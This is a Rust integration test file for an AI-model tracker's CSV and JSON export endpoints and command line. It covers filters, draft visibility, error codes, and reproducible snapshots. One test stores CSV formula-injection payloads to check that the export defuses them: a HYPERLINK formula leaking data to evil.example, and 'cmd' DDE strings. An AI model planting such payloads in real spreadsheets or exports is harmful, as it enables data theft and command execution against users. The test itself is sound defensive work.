//! `GET /export/models.csv` and `/export/models.json`, and `ai-tracker export`: the `models`
//! query's filter as JSON, drafts for editors only, attribution first, and both formats parse.

use ai_tracker::domain::EditorRole;
use serde_json::{Value, json};
use tokio::process::Command;

use crate::helpers::{TestApp, plant_model, spawn_app};

async fn get(app: &TestApp, path: &str, filter: Option<&Value>, token: Option<&str>) -> reqwest::Response {
    let mut request = app.client.get(app.url(path));
    if let Some(filter) = filter {
        request = request.query(&[("filter", filter.to_string())]);
    }
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    request.send().await.expect("the server answers")
}

/// The slugs of a CSV export, after checking its attribution lines and header.
fn csv_slugs(body: &str) -> Vec<String> {
    let comments: Vec<&str> = body.lines().take_while(|l| l.starts_with('#')).collect();
    assert_eq!(comments.len(), 3, "{body}");
    assert!(comments.iter().any(|l| l.contains("Epoch AI") && l.contains("CC BY 4.0")), "{comments:?}");
    let mut reader = csv::ReaderBuilder::new().comment(Some(b'#')).from_reader(body.as_bytes());
    let headers = reader.headers().expect("a header").clone();
    assert_eq!(&headers[0], "slug");
    let column = headers.iter().position(|h| h == "training_compute_flop").expect("a compute column");
    reader
        .records()
        .map(|r| {
            let r = r.expect("every record parses");
            assert_eq!(r.len(), headers.len());
            if let Some(v) = r.get(column).filter(|v| !v.is_empty()) {
                v.parse::<f64>().expect("compute is a number");
            }
            r[0].to_owned()
        })
        .collect()
}

async fn graphql_slugs(app: &TestApp, filter: Value) -> Vec<String> {
    let query = r#"query($filter: ModelFilter, $after: String) { models(filter: $filter, first: 100, after: $after, orderBy: [{ field: SLUG }]) {
      nodes { slug } pageInfo { hasNextPage endCursor } } }"#;
    let (mut slugs, mut after) = (vec![], Value::Null);
    loop {
        let data = app.query(query, json!({ "filter": filter, "after": after })).await;
        for node in data["models"]["nodes"].as_array().unwrap() {
            slugs.push(node["slug"].as_str().unwrap().to_owned());
        }
        if data["models"]["pageInfo"]["hasNextPage"] != json!(true) {
            return slugs;
        }
        after = data["models"]["pageInfo"]["endCursor"].clone();
    }
}

#[tokio::test]
async fn exports_honour_the_filter_and_parse_as_csv_and_json() {
    let app = spawn_app().await;
    let filter = json!({ "trainingComputeFlop": { "gte": 1e24 }, "organizations": { "slug": { "eq": "openai" } } });
    let expected = graphql_slugs(&app, filter.clone()).await;
    assert!(expected.len() >= 3, "the seed has several large OpenAI models: {expected:?}");

    let response = get(&app, "/export/models.csv", Some(&filter), None).await;
    assert_eq!(response.status(), 200);
    assert!(response.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    assert_eq!(csv_slugs(&response.text().await.unwrap()), expected);

    let response = get(&app, "/export/models.json", Some(&filter), None).await;
    assert_eq!(response.status(), 200);
    let body: Value = response.json().await.expect("the JSON export parses");
    assert!(body["attribution"]["credits"][0].as_str().unwrap().contains("CC BY 4.0"));
    let slugs: Vec<&str> = body["models"].as_array().unwrap().iter().map(|m| m["slug"].as_str().unwrap()).collect();
    assert_eq!(slugs, expected);
    assert!(body["models"][0]["organizations"].as_array().unwrap().contains(&json!("OpenAI")), "{}", body["models"][0]);

    // Without a filter: the whole public catalog, across several pages of the service (100 each).
    for i in 0..10 {
        plant_model(&app, &format!("planted-{i}"), "2020-01-01", Some(1e20), None).await;
    }
    let all = graphql_slugs(&app, json!({})).await;
    assert!(all.len() > 100, "{}", all.len());
    let body = get(&app, "/export/models.csv", None, None).await.text().await.unwrap();
    assert_eq!(csv_slugs(&body), all);
    let body: Value = get(&app, "/export/models.json", None, None).await.json().await.unwrap();
    assert_eq!(body["models"].as_array().unwrap().len(), all.len());
}

#[tokio::test]
async fn drafts_are_exported_to_editors_only() {
    let app = spawn_app().await;
    let editor = app.editor_token(EditorRole::Editor).await;
    let create = r#"mutation { createModel(input: { slug: "secret-draft", name: "Secret Draft" }) { published } }"#;
    let (status, body) = app.post_graphql_as(&editor, create, json!({})).await;
    assert_eq!((status, &body["data"]["createModel"]["published"]), (200, &json!(false)), "{body}");
    let filter = json!({ "slug": { "eq": "secret-draft" } });

    let public = get(&app, "/export/models.csv", Some(&filter), None).await.text().await.unwrap();
    assert!(csv_slugs(&public).is_empty(), "{public}");
    let public: Value = get(&app, "/export/models.json", None, None).await.json().await.unwrap();
    assert!(!public["models"].as_array().unwrap().iter().any(|m| m["slug"] == "secret-draft"));

    let edited = get(&app, "/export/models.csv", Some(&filter), Some(&editor)).await.text().await.unwrap();
    assert_eq!(csv_slugs(&edited), ["secret-draft"]);
    let edited: Value = get(&app, "/export/models.json", None, Some(&editor)).await.json().await.unwrap();
    let draft = edited["models"].as_array().unwrap().iter().find(|m| m["slug"] == "secret-draft").cloned();
    assert_eq!(draft.expect("editors see the draft")["published"], json!(false));

    let forged = get(&app, "/export/models.csv", None, Some("not-a-token")).await;
    assert_eq!(forged.status(), 401, "a bad token is refused, never silently anonymous");
}

/// An export's refusal is the GraphQL error body with the code's own status, not a 400 for
/// every code (which codes give which status is checked for each one in `http::export`).
#[tokio::test]
async fn an_exports_refusal_carries_its_own_code_and_status() {
    let app = spawn_app().await;
    for path in ["/export/models.csv", "/export/models.json"] {
        let forged = get(&app, path, None, Some("not-a-token")).await;
        assert_eq!(forged.status(), 401, "{path}");
        assert_eq!(forged.headers()["content-type"], "application/json", "{path}");
        let body: Value = forged.json().await.unwrap();
        assert_eq!(body["errors"][0]["extensions"]["code"], json!("UNAUTHENTICATED"), "{body}");
        assert!(body.get("data").is_none(), "{body}");
    }
}

#[tokio::test]
async fn a_bad_filter_is_a_400_naming_the_field() {
    let app = spawn_app().await;
    let cases = [
        (json!({ "trainingComputeFlop": { "gte": "lots" } }), "filter"),
        (json!({ "trainingComputFlop": { "gte": 1e24 } }), "filter.trainingComputFlop"),
        (json!({ "organizations": { "slug": { "equals": "openai" } } }), "filter.organizations.slug.equals"),
        (json!({ "access": { "eq": "FREE" } }), "filter"),
    ];
    for (filter, field) in cases {
        for path in ["/export/models.csv", "/export/models.json"] {
            let response = get(&app, path, Some(&filter), None).await;
            assert_eq!(response.status(), 400, "{filter}");
            let body: Value = response.json().await.unwrap();
            let error = &body["errors"][0];
            assert_eq!(error["extensions"]["code"], json!("BAD_USER_INPUT"), "{body}");
            assert_eq!(error["extensions"]["field"], json!(field), "{body}");
        }
    }
    let response = app.client.get(app.url("/export/models.csv?filter=%7Bnot-json")).send().await.unwrap();
    assert_eq!(response.status(), 400);
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["errors"][0]["extensions"]["field"], json!("filter"));
}

#[tokio::test]
async fn the_command_line_exports_the_same_models() {
    let app = spawn_app().await;
    let filter = json!({ "announcedOn": { "gte": "2024-01-01" } });
    let expected = graphql_slugs(&app, filter.clone()).await;
    let output = Command::new(env!("CARGO_BIN_EXE_ai-tracker"))
        .env("DATABASE_URL", &app.db.url)
        .env("RUST_LOG", "warn")
        .args(["export", "--format", "csv", "--filter", &filter.to_string()])
        .output()
        .await
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(csv_slugs(&String::from_utf8(output.stdout).unwrap()), expected);

    let output = Command::new(env!("CARGO_BIN_EXE_ai-tracker"))
        .env("DATABASE_URL", &app.db.url)
        .args(["export", "--format", "json", "--filter", r#"{"parameters":{"gt":"x"}}"#])
        .output()
        .await
        .unwrap();
    assert!(!output.status.success(), "a bad filter fails");
}

/// A spreadsheet runs a cell starting with `=`, `+`, `-` or `@` (after a tab or a carriage
/// return, too) as a formula: such text leaves the CSV export with a leading `'` and quoted, as
/// OWASP advises, while numbers (a negative one too) stay numbers and JSON keeps the text as stored.
#[tokio::test]
async fn text_a_spreadsheet_would_run_as_a_formula_is_defused_in_csv_only() {
    let app = spawn_app().await;
    let editor = app.editor_token(EditorRole::Editor).await;
    let name = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
    let create = r#"mutation($name: String!) { createModel(input: { slug: "formula", name: $name, published: true,
        hardware: "+cmd|' /C calc'!A0", license: "@SUM(1+1)*cmd|' /C calc'!A0", trainingDataset: "-2+3+cmd|' /C calc'!A0",
        trainingComputeFlop: 1.5e24 }) { slug } }"#;
    let (status, body) = app.post_graphql_as(&editor, create, json!({ "name": name })).await;
    assert_eq!((status, &body["data"]["createModel"]["slug"]), (200, &json!("formula")), "{body}");
    let filter = json!({ "slug": { "eq": "formula" } });

    let body = get(&app, "/export/models.csv", Some(&filter), None).await.text().await.unwrap();
    assert_eq!(csv_slugs(&body), ["formula"]);
    let mut reader = csv::ReaderBuilder::new().comment(Some(b'#')).from_reader(body.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let record = reader.records().next().unwrap().unwrap();
    let cell = |column: &str| record[headers.iter().position(|h| h == column).unwrap()].to_owned();
    assert_eq!(cell("name"), format!("'{name}"));
    assert_eq!(cell("hardware"), "'+cmd|' /C calc'!A0");
    assert_eq!(cell("license"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell("training_dataset"), "'-2+3+cmd|' /C calc'!A0");
    assert_eq!(cell("training_compute_flop"), "1500000000000000000000000", "{body}");
    // The defused cells are quoted in the file itself, numbers are not.
    let line = body.lines().find(|l| l.starts_with("\"formula\"")).expect("the model's line");
    assert!(line.contains("\"'=HYPERLINK(\"\"http://evil.example/"), "{line}");
    assert!(line.contains(",1500000000000000000000000,"), "{line}");

    let json: Value = get(&app, "/export/models.json", Some(&filter), None).await.json().await.unwrap();
    let model = &json["models"][0];
    assert_eq!(model["name"], json!(name));
    assert_eq!(model["hardware"], json!("+cmd|' /C calc'!A0"));
    assert_eq!(app.client.get(app.url("/healthz")).send().await.unwrap().status(), 200);
}

/// A moment strictly after every revision so far, and before any made next.
async fn instant() -> String {
    tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    let at = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Micros, true);
    tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    at
}

async fn snapshot(app: &TestApp, path: &str, at: &str, filter: Option<&Value>) -> reqwest::Response {
    let mut request = app.client.get(app.url(path)).query(&[("asRecordedAt", at)]);
    if let Some(filter) = filter {
        request = request.query(&[("filter", filter.to_string())]);
    }
    let response = request.send().await.expect("the server answers");
    assert_eq!(response.status(), 200, "{path}");
    response
}

fn same_instant(text: &str) -> chrono::DateTime<chrono::Utc> {
    chrono::DateTime::parse_from_rfc3339(text).expect("RFC 3339").into()
}

fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest;
    format!("{:x}", sha2::Sha256::digest(bytes))
}

/// The byte after the `n`th line break.
fn after_lines(body: &[u8], n: usize) -> usize {
    body.iter().enumerate().filter(|(_, b)| **b == b'\n').nth(n - 1).expect("enough lines").0 + 1
}

/// A CSV snapshot's header states the instant, the revision and the SHA-256 of the lines after
/// it, which it is; returns the revision.
fn check_csv_snapshot(body: &[u8], at: &str) -> i64 {
    let text = std::str::from_utf8(body).unwrap();
    let comments: Vec<&str> = text.lines().take(4).collect();
    assert!(comments[..3].iter().all(|l| l.starts_with('#')) && !comments[3].starts_with('#'), "{comments:?}");
    assert!(comments.iter().any(|l| l.contains("Epoch AI") && l.contains("CC BY 4.0")), "{comments:?}");
    let first = comments[0];
    let stated = first.split("as recorded at ").nth(1).and_then(|rest| rest.split(' ').next()).expect("an instant");
    assert_eq!(same_instant(stated), same_instant(at), "{first}");
    assert!(stated.ends_with('Z'), "in UTC: {first}");
    let digest = first.rsplit(": ").next().unwrap();
    assert_eq!(digest, sha256(&body[after_lines(body, 3)..]), "{first}");
    let revision = first.split("(revision ").nth(1).unwrap().split(')').next().unwrap();
    csv_slugs(text);
    revision.parse().unwrap()
}

/// A JSON snapshot's attribution states the instant, the revision and the SHA-256 of every
/// byte after its first line, which it is; returns the revision.
fn check_json_snapshot(body: &[u8], at: &str) -> i64 {
    let json: Value = serde_json::from_slice(body).expect("the snapshot parses");
    let attribution = &json["attribution"];
    assert_eq!(same_instant(attribution["asRecordedAt"].as_str().unwrap()), same_instant(at), "{attribution}");
    assert!(attribution["credits"][0].as_str().unwrap().contains("CC BY 4.0"));
    assert_eq!(attribution["sha256"], json!(sha256(&body[after_lines(body, 1)..])), "{attribution}");
    assert!(body[after_lines(body, 1)..].starts_with(b"\"models\":["));
    assert!(json["models"].is_array());
    attribution["revision"].as_i64().expect("a revision")
}

#[tokio::test]
async fn a_snapshot_is_the_same_bytes_every_time_and_states_the_digest_of_its_body() {
    let app = spawn_app().await;
    let editor = app.editor_token(EditorRole::Editor).await;
    let create = r#"mutation { createModel(input: { slug: "cited", name: "Cited", access: API, published: true,
        trainingComputeFlop: 1e26 }) { id version } }"#;
    let cited = app.query_as(&editor, create, json!({})).await["createModel"].clone();
    let at = instant().await;

    let csv = snapshot(&app, "/export/models.csv", &at, None).await;
    let etag = csv.headers()["etag"].to_str().unwrap().to_owned();
    assert!(etag.starts_with("\"sha256-") && etag.len() == 8 + 64 + 1, "a strong tag: {etag}");
    let csv = csv.bytes().await.unwrap();
    let revision = check_csv_snapshot(&csv, &at);
    assert!(revision > 0);
    assert!(csv_slugs(std::str::from_utf8(&csv).unwrap()).contains(&"cited".to_owned()));
    let json = snapshot(&app, "/export/models.json", &at, None).await;
    let json_etag = json.headers()["etag"].to_str().unwrap().to_owned();
    assert_ne!(json_etag, etag, "each format has its own tag");
    let json = json.bytes().await.unwrap();
    assert_eq!(check_json_snapshot(&json, &at), revision);
    let filter = json!({ "slug": { "eq": "cited" } });
    let filtered = snapshot(&app, "/export/models.json", &at, Some(&filter)).await.bytes().await.unwrap();
    check_json_snapshot(&filtered, &at);
    let models: Value = serde_json::from_slice(&filtered).unwrap();
    assert_eq!(models["models"].as_array().unwrap().len(), 1, "{models}");
    assert_eq!(models["models"][0]["trainingComputeFlop"], json!(1e26));

    // Edits after the instant change the present, not the snapshot.
    let update = r#"mutation($id: ID!, $v: Int!) { updateModel(id: $id, expectedVersion: $v,
        input: { name: "Cited, renamed", trainingComputeFlop: 2e26 }) { version } }"#;
    app.query_as(&editor, update, json!({ "id": cited["id"], "v": cited["version"] })).await;
    let create =
        r#"mutation { createModel(input: { slug: "later", name: "Later", access: API, published: true }) { id } }"#;
    app.query_as(&editor, create, json!({})).await;
    let present = get(&app, "/export/models.csv", None, None).await;
    assert!(present.headers().get("etag").is_none(), "the present has no fixed bytes");
    assert!(csv_slugs(&present.text().await.unwrap()).contains(&"later".to_owned()));

    for _ in 0..2 {
        let again = snapshot(&app, "/export/models.csv", &at, None).await;
        assert_eq!(again.headers()["etag"].to_str().unwrap(), etag);
        assert_eq!(again.bytes().await.unwrap(), csv, "the CSV snapshot is byte for byte the same");
        let again = snapshot(&app, "/export/models.json", &at, None).await.bytes().await.unwrap();
        assert_eq!(again, json, "the JSON snapshot is byte for byte the same");
        let again = snapshot(&app, "/export/models.json", &at, Some(&filter)).await.bytes().await.unwrap();
        assert_eq!(again, filtered);
    }

    // A client that has the bytes revalidates them.
    let url = app.url(&format!("/export/models.csv?asRecordedAt={}", at.replace(':', "%3A")));
    let unchanged = app.client.get(&url).header("if-none-match", &etag).send().await.unwrap();
    assert_eq!(unchanged.status(), 304);
    assert_eq!(unchanged.headers()["etag"].to_str().unwrap(), etag);
    assert!(unchanged.bytes().await.unwrap().is_empty());
    let other = app.client.get(&url).header("if-none-match", "\"sha256-00\"").send().await.unwrap();
    assert_eq!(other.status(), 200);
    assert_eq!(other.bytes().await.unwrap(), csv);
    let present = app.client.get(app.url("/export/models.csv")).header("if-none-match", &etag).send().await.unwrap();
    assert_eq!(present.status(), 200, "the present is never a 304");

    // Before the first revision: the empty catalog, still attributed and digested.
    let empty = snapshot(&app, "/export/models.json", "2000-01-01T00:00:00Z", None).await.bytes().await.unwrap();
    assert_eq!(check_json_snapshot(&empty, "2000-01-01T00:00:00Z"), 0);
    let empty: Value = serde_json::from_slice(&empty).unwrap();
    assert_eq!(empty["models"], json!([]));
}

#[tokio::test]
async fn an_unknown_parameter_or_a_bad_instant_is_a_400_naming_it() {
    let app = spawn_app().await;
    let future = (chrono::Utc::now() + chrono::Duration::days(1)).to_rfc3339();
    let cases = [
        ("filtr=%7B%7D", "filtr"),
        ("filter=%7B%7D&as_recorded_at=2025-01-01T00:00:00Z", "as_recorded_at"),
        ("asRecordedAt=2025-01-01T00:00:00Z&format=json", "format"),
        ("asRecordedAt=yesterday", "asRecordedAt"),
        ("asRecordedAt=2025-01-01", "asRecordedAt"),
        (&format!("asRecordedAt={}", future.replace('+', "%2B")), "asRecordedAt"),
        ("filter=%7B%7D&filter=%7B%7D", "filter"),
    ];
    for (query, field) in cases {
        for path in ["/export/models.csv", "/export/models.json"] {
            let response = app.client.get(app.url(&format!("{path}?{query}"))).send().await.unwrap();
            assert_eq!(response.status(), 400, "{path}?{query}");
            let body: Value = response.json().await.unwrap();
            let error = &body["errors"][0];
            assert_eq!(error["extensions"]["code"], json!("BAD_USER_INPUT"), "{body}");
            assert_eq!(error["extensions"]["field"], json!(field), "{body}");
            assert!(error["message"].as_str().unwrap().contains(field), "{body}");
        }
    }
    // The parameters it takes still work, together and alone.
    let filter = "filter=%7B%22slug%22%3A%7B%22eq%22%3A%22gpt-4%22%7D%7D";
    for query in [filter.to_owned(), format!("{filter}&asRecordedAt=2025-01-01T00:00:00Z"), String::new()] {
        let response = app.client.get(app.url(&format!("/export/models.csv?{query}"))).send().await.unwrap();
        assert_eq!(response.status(), 200, "{query}");
    }
}

#[tokio::test]
async fn the_command_line_writes_the_same_snapshot_as_http() {
    let app = spawn_app().await;
    let at = instant().await;
    let filter = json!({ "announcedOn": { "gte": "2024-01-01" } });
    for (format, path, filter) in [
        ("csv", "/export/models.csv", None),
        ("json", "/export/models.json", Some(&filter)),
        ("csv", "/export/models.csv", Some(&filter)),
    ] {
        let http = snapshot(&app, path, &at, filter).await.bytes().await.unwrap();
        let mut args = vec!["export", "--format", format, "--as-recorded-at", &at];
        let filter_text = filter.map(|f| f.to_string());
        if let Some(filter) = &filter_text {
            args.extend(["--filter", filter]);
        }
        let output = Command::new(env!("CARGO_BIN_EXE_ai-tracker"))
            .env("DATABASE_URL", &app.db.url)
            .env("RUST_LOG", "warn")
            .args(&args)
            .output()
            .await
            .unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        assert_eq!(output.stdout, http, "{args:?}");
    }
    let future = (chrono::Utc::now() + chrono::Duration::days(1)).to_rfc3339();
    let output = Command::new(env!("CARGO_BIN_EXE_ai-tracker"))
        .env("DATABASE_URL", &app.db.url)
        .args(["export", "--as-recorded-at", &future])
        .output()
        .await
        .unwrap();
    assert!(!output.status.success(), "a future instant fails");
    assert!(String::from_utf8_lossy(&output.stderr).contains("--as-recorded-at"));
}
